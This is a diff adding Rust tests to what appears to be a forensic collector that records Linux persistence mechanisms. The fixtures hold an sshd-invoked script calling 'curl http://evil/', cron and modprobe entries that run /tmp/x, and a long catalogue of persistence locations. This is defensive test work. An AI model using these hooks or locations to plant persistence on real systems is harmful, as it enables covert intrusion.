@@ -70,6 +70,170 @@ fn keys_have_fingerprints_and_owners() {
     assert!(!evidence.member("/home/ann/.ssh/id_ed25519").unwrap().windows(4).any(|w| w == b"QUJD"));
 }
 
+const LINE: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl c\n";
+
+/// A column of all rows of a table.
+fn column<'a>(evidence: &'a Recorded, table: &str, column: &str) -> Vec<&'a str> {
+    evidence.rows(table).iter().map(|row| row[column].as_str().unwrap_or("-")).collect()
+}
+
+#[test]
+fn what_sshd_is_told_to_read_is_kept_and_its_keys_have_their_accounts() {
+    let private = "-----BEGIN OPENSSH PRIVATE KEY-----\nQUJD\n-----END OPENSSH PRIVATE KEY-----\n";
+    let (_, evidence) = acquired(|root| {
+        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\nbob:x:1001:1001::/srv/bob:/bin/sh\n");
+        write(root, "etc/ssh/sshd_config", "Include /opt/ssh/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\n");
+        let more = "Match User bob\nAuthorizedKeysFile /opt/everybody\nAuthorizedKeysCommand /opt/find --password hunter2 %u\n\
+            TrustedUserCAKeys /opt/ca.pub\nAuthorizedPrincipalsFile %h/who\n";
+        write(root, "opt/ssh/a.conf", more);
+        write(root, "etc/keys/ann", LINE);
+        write(root, "opt/everybody", format!("{LINE}{private}"));
+        write(root, "opt/ca.pub", LINE);
+        write(root, "opt/find", "#!/bin/sh\ncurl http://evil/\n");
+        write(root, "srv/bob/who", "root\n");
+    });
+    assert_eq!(column(&evidence, "authorized_keys", "key_file"), ["/etc/keys/ann", "/opt/everybody", "/opt/ca.pub"]);
+    assert_eq!(column(&evidence, "authorized_keys", "username"), ["ann", "-", "-"]);
+    assert_eq!(evidence.rows("authorized_keys")[0]["uid"], 1000);
+    assert!(!evidence.member("/opt/everybody").unwrap().windows(4).any(|w| w == b"QUJD"));
+    assert!(evidence.member("/srv/bob/who").is_some());
+    let program = evidence.rows("persistence_files").iter().find(|row| row["path"] == "/opt/find").unwrap();
+    assert_eq!((&program["via"], &program["kind"]), (&"/opt/ssh/a.conf".into(), &"ssh".into()));
+    let command = evidence.rows("persistence_hooks").iter().find(|row| row["name"] == "AuthorizedKeysCommand").unwrap();
+    assert_eq!((&command["path"], &command["line"], &command["kind"]), (&"/opt/ssh/a.conf".into(), &3.into(), &"ssh".into()));
+    assert_eq!(command["value"], "/opt/find --password xxxxxxx %u");
+    assert_eq!(evidence.gaps, []);
+}
+
+#[test]
+fn a_crontab_in_which_sshd_looks_for_keys_is_one_still() {
+    let (_, evidence) = acquired(|root| {
+        write(root, "etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysFile /etc/crontab\n");
+        write(root, "etc/crontab", format!("* * * * * root /tmp/x\n{LINE}"));
+    });
+    assert_eq!((column(&evidence, "crontab", "command"), evidence.rows("authorized_keys").len()), (vec!["/tmp/x"], 1));
+}
+
+#[test]
+fn the_spool_of_alpine_lies_in_etc() {
+    let (_, evidence) = acquired(|root| write(root, "etc/crontabs/root", "*/5 * * * * run-parts /etc/periodic/5min\n"));
+    assert_eq!(column(&evidence, "crontab", "username"), ["root"]);
+    assert_eq!(column(&evidence, "crontab", "command"), ["run-parts /etc/periodic/5min"]);
+}
+
+#[test]
+fn what_git_is_told_to_run_is_kept() {
+    let (_, evidence) = acquired(|root| {
+        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
+        write(root, "home/ann/.gitconfig", "[core]\nhooksPath = ~/h\n[include]\npath = more\n[init]\ntemplateDir = /opt/t\n");
+        write(root, "home/ann/more", "[alias]\nx = !id\n");
+        write(root, "home/ann/h/post-checkout", "#!/bin/sh\npager=x\n");
+        write(root, "home/ann/h/x.sample", "");
+        write(root, "opt/t/hooks/update", "#!/bin/sh\n");
+        for name in ["pre-commit", "update", "update.sample"] {
+            write(root, &format!("usr/share/git-core/templates/hooks/{name}"), "");
+        }
+    });
+    assert_eq!(
+        column(&evidence, "persistence_files", "path"),
+        [
+            "/home/ann/.gitconfig",
+            "/usr/share/git-core/templates/hooks/pre-commit",
+            "/usr/share/git-core/templates/hooks/update",
+            "/home/ann/h/post-checkout",
+            "/home/ann/more",
+            "/opt/t/hooks/update",
+        ]
+    );
+    let names = column(&evidence, "persistence_hooks", "name");
+    assert_eq!(names, ["core.hookspath", "include.path", "init.templatedir", "alias.x"]);
+    assert!(column(&evidence, "persistence_hooks", "username").iter().all(|name| *name == "ann"));
+    assert_eq!(evidence.gaps, []);
+}
+
+#[test]
+fn what_dkms_and_modprobe_run_is_kept() {
+    let (_, evidence) = acquired(|root| {
+        write(root, "usr/src/evil-1/dkms.conf", "PACKAGE_NAME=evil\nPOST_INSTALL=\"post.sh now\"\n");
+        write(root, "usr/src/evil-1/post.sh", "id\n");
+        std::fs::create_dir_all(root.join("var/lib/dkms/evil/1")).unwrap();
+        symlink("/usr/src/evil-1", root.join("var/lib/dkms/evil/1/source")).unwrap();
+        write(root, "var/lib/dkms/mok.key", "secret");
+        write(root, "etc/modprobe.d/x.conf", "install pcspkr /tmp/x\n");
+    });
+    assert_eq!(column(&evidence, "persistence_hooks", "name"), ["install pcspkr", "POST_INSTALL"]);
+    assert_eq!(column(&evidence, "persistence_hooks", "value"), ["/tmp/x", "post.sh now"]);
+    assert_eq!(evidence.member("/usr/src/evil-1/post.sh"), Some(&b"id\n"[..]));
+    let files = evidence.rows("persistence_files");
+    let link = files.iter().find(|row| row["path"] == "/var/lib/dkms/evil/1/source").unwrap();
+    assert_eq!((&link["symlink_target_path"], files.len()), (&"/usr/src/evil-1".into(), 4));
+}
+
+/// A place for each mechanism, and the list that it stands on.
+const PLACES: &[(&str, &str)] = &[
+    ("boot/efi/EFI/amzn/grub.cfg", "boot"),
+    ("etc/apache2/mods-available/x.load", "web"),
+    ("etc/cfn/hooks.d/x.conf", "cloud"),
+    ("etc/gitconfig", "git"),
+    ("etc/hibinit-config.cfg", "cloud"),
+    ("etc/hosts.equiv", "ssh"),
+    ("etc/httpd/conf.modules.d/x.conf", "web"),
+    ("etc/nginx/fastcgi_params", "web"),
+    ("etc/nginx/sites-enabled/default", "web"),
+    ("etc/perl/sitecustomize.pl", "perl"),
+    ("etc/php.d/x.ini", "web"),
+    ("etc/php/8.2/fpm/php.ini", "web"),
+    ("etc/python3.11/sitecustomize.py", "python"),
+    ("etc/ssh/shosts.equiv", "ssh"),
+    ("etc/sysconfig/network-scripts/ifcfg-eth0", "boot"),
+    ("etc/systemd/network/x.network", "systemd"),
+    ("home/ann/.config/git/config", "git"),
+    ("home/ann/.git/hooks/post-merge", "git"),
+    ("home/ann/.gitconfig", "git"),
+    ("home/ann/.rhosts", "ssh"),
+    ("home/ann/.shosts", "ssh"),
+    ("lib/systemd/system-generators/x", "systemd"),
+    ("lib/udev/rules.d/x.rules", "udev"),
+    ("run/systemd/system-generators/x", "systemd"),
+    ("usr/lib/dracut/modules.d/99x/module-setup.sh", "boot"),
+    ("usr/lib/nginx/modules/x.so", "web"),
+    ("usr/lib/python2.7/site-packages/x.pth", "python"),
+    ("usr/lib/python3.11/usercustomize.py", "python"),
+    ("usr/lib/python3/dist-packages/x.pth", "python"),
+    ("usr/lib/systemd/network/x.network", "systemd"),
+    ("usr/lib/x86_64-linux-gnu/libnss_x.so.2", "nss"),
+    ("usr/lib/x86_64-linux-gnu/security/pam_x.so", "pam"),
+    ("usr/lib64/security/pam_x.so", "pam"),
+    ("usr/local/share/perl/5.36.0/sitecustomize.pl", "perl"),
+    ("usr/sbin/dhclient-script", "network"),
+    ("usr/share/initramfs-tools/scripts/local-top/x", "boot"),
+    ("usr/src/x-1/dkms.conf", "kernel"),
+    ("var/lib/dkms/x/1/build/dkms.conf", "kernel"),
+    ("var/lib/polkit-1/localauthority/50-local.d/x.pkla", "privileges"),
+    ("var/spool/cron/tabs/root", "cron"),
+];
+
+/// What lies beside them and is no configuration, or is not run.
+const BESIDE: &[&str] = &[
+    "etc/apache2/passwords",
+    "etc/nginx/ssl/key.der",
+    "usr/share/git-core/templates/hooks/update.sample",
+    "var/lib/dkms/mok.key",
+    "var/lib/dkms/x/1/build/src/deep/dkms.conf",
+];
+
+#[test]
+fn every_mechanism_has_its_places() {
+    let (_, evidence) = acquired(|root| {
+        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
+        PLACES.iter().map(|(path, _)| path).chain(BESIDE).for_each(|path| write(root, path, "x"));
+    });
+    let rows = evidence.rows("persistence_files");
+    let found: Vec<_> = rows.iter().map(|row| (row["path"].as_str().unwrap(), row["kind"].as_str().unwrap())).collect();
+    let wanted: Vec<_> = PLACES.iter().map(|(path, kind)| (format!("/{path}"), *kind)).collect();
+    assert_eq!(found, wanted.iter().map(|(path, kind)| (path.as_str(), *kind)).collect::<Vec<_>>());
+}
+
 #[test]
 fn what_the_loader_is_told_to_load_is_kept_whatever_it_is_called() {
     let (_, evidence) = acquired(|root| {
